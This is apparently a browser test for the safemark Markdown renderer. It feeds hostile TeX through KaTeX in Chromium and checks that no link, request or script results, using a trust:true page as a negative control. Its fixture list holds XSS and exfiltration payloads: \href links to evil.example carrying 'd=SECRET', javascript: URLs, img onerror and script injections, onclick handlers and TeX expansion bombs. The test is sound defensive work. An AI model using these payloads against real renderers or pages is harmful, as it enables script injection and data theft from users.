// Math in Chromium (issue 20): hostile TeX rendered by safemark under { math: true }, then
// typeset by KaTeX with the options the README documents, makes no request, runs no script
// and creates no link, image or attribute with a URL: the commands that could (\href, \url,
// \includegraphics, \html*) stay text, and the TeX bombs stop at KaTeX's bounds. The same
// page with KaTeX's `trust: true` is the negative control: it must link and load.
import { launchChromium, serveFiles, checks, safemarkFiles } from './chromium.mjs';

const here = (p) => new URL(p, import.meta.url);
const TRIP = 'window.__tripped=(window.__tripped||0)+1';
const TEX = [
  String.raw`\href{https://evil.example/x?d=SECRET}{click}`,
  String.raw`\href{javascript:${TRIP}}{x}`,
  String.raw`\url{https://evil.example/u?d=SECRET}`,
  String.raw`\includegraphics[height=1em]{https://evil.example/p.png?d=SECRET}`,
  String.raw`\htmlData{foo=bar, onclick=${TRIP}}{x}`,
  String.raw`\htmlId{app}{x}`,
  String.raw`\htmlClass{safemark-untrusted-link}{x}`,
  String.raw`\htmlStyle{background:url(https://evil.example/bg.png)}{x}`,
  String.raw`\newcommand{\h}{\href{https://evil.example/m}{x}}\h`,
  String.raw`\def\a{\a}\a`,
  String.raw`\def\x{xxxxxxxxxx}\def\y{\x\x\x\x\x\x\x\x\x\x}\def\z{\y\y\y\y\y\y\y\y\y\y}\z\z\z\z\z\z\z\z\z\z`,
  String.raw`\rule{10000em}{10000em}`,
  String.raw`<img src=x onerror=${TRIP}>`,
  String.raw`\text{<script>${TRIP}</script>}`,
  String.raw`\verb|</span><img src=x onerror=${TRIP}>|`,
  String.raw`\textcolor{url(https://evil.example/c)}{x} \color{red}{y}`,
  String.raw`\raisebox{100em}{x}\lower100em{y}`,
  String.raw`\int_0^1 x^2\,dx = \frac{1}{3}`,
];
const markdown = TEX.map((t) => `Inline $${t}$ and display $$${t}$$ end.`).join('\n\n');

const main = `
import { init, renderMarkdown } from './dist/safemark.js';
import katex from './katex.mjs';
const { markdown } = await (await fetch('./input.json')).json();
await init();
const root = document.getElementById('out');
root.innerHTML = renderMarkdown(markdown, { math: true });
const spans = [...root.querySelectorAll('span.math')];
let errors = 0;
for (const el of spans) {
  katex.render(el.textContent, el, {
    displayMode: el.classList.contains('math-display'),
    trust: location.search === '?control', throwOnError: false, strict: 'ignore', maxSize: 10, maxExpand: 1000,
    output: 'htmlAndMathml',
  });
}
errors = root.querySelectorAll('.katex-error').length;
await new Promise((r) => setTimeout(r, 300));
const attrs = [...root.querySelectorAll('*')].flatMap((e) => [...e.attributes].map((a) => [e.localName, a.name, a.value]));
window.result = {
  spans: spans.length,
  typeset: root.querySelectorAll('.katex').length,
  errors,
  links: root.querySelectorAll('a, [href]').length,
  media: root.querySelectorAll('img, image, svg image, iframe, object, embed, script, style, link').length,
  handlers: attrs.filter(([, n]) => n.startsWith('on')).length,
  // A KaTeX error's tooltip (title) repeats the TeX as text: inert.
  urls: attrs.filter(([, n, v]) => n !== 'title' && /evil\\.example|javascript:|url\\(/i.test(v)).map((a) => a.join(' ')),
  ids: attrs.filter(([, n]) => n === 'id').length,
  text: root.innerText.length,
};`;
const files = {
  '/page.html': [Buffer.from('<!doctype html><meta charset="utf-8"><div id="out"></div><script type="module" src="main.js"></script>'), 'text/html'],
  '/main.js': [Buffer.from(main), 'text/javascript'],
  '/input.json': [Buffer.from(JSON.stringify({ markdown })), 'application/json'],
  '/katex.mjs': [here('../node_modules/katex/dist/katex.mjs'), 'text/javascript'],
  ...safemarkFiles(),
};

const { check, done } = checks('math');
const { origin, close, strays } = await serveFiles(files);
const browser = await launchChromium();
try {
  const page = await browser.newPage();
  const stray = strays(page);
  let dialogs = 0;
  page.on('dialog', (d) => { dialogs++; d.dismiss().catch(() => {}); });
  const errors = [];
  page.on('pageerror', (e) => errors.push(e.message));
  await page.goto(`${origin}/page.html`);
  await page.waitForFunction(() => window.result !== undefined, null, { timeout: 30000 });
  const r = await page.evaluate(() => window.result);
  const tripped = await page.evaluate(() => window.__tripped ?? 0);
  console.log(`# ${TEX.length} hostile TeX snippets, inline and display: ${r.spans} math spans, ${r.typeset} typeset by KaTeX, ${r.errors} shown as KaTeX errors`);
  check(r.spans === 2 * TEX.length, `every snippet is a math span (${r.spans})`);
  check(r.typeset + r.errors === r.spans && r.typeset > 0, `KaTeX typeset or refused each (${r.typeset} + ${r.errors})`);
  check(r.errors >= 4 && r.text < 100000, `the TeX bombs stop at KaTeX's bounds (${r.errors} errors, ${r.text} characters shown)`);
  check(r.links === 0, `no link (${r.links})`);
  check(r.media === 0 && r.handlers === 0, `no image, frame, script or handler (${r.media}, ${r.handlers})`);
  check(r.urls.length === 0, `no URL in any attribute (${r.urls.slice(0, 3).join('; ')})`);
  check(r.ids === 0, `no id written (${r.ids})`);
  check(stray.length === 0, `no request beyond the page's files (${stray.join(' ')})`);
  check(tripped === 0 && dialogs === 0, `no script ran (tripwires ${tripped}, dialogs ${dialogs})`);
  check(errors.length === 0, `no page error (${errors.join('; ')})`);

  // Negative control: the same page with KaTeX's trust on must show the hazard the options
  // prevent, or this test could not see it.
  const control = await browser.newPage();
  const loads = [];
  control.on('request', (q) => { if (!q.url().startsWith(origin)) loads.push(q.url()); });
  await control.goto(`${origin}/page.html?control`);
  await control.waitForFunction(() => window.result !== undefined, null, { timeout: 30000 });
  const c = await control.evaluate(() => window.result);
  check(c.links > 0 && c.urls.length > 0 && loads.length > 0,
    `negative control (trust: true): links ${c.links}, URL attributes ${c.urls.length}, requests ${loads.length}`);
} finally {
  await browser.close();
  close();
}
done();
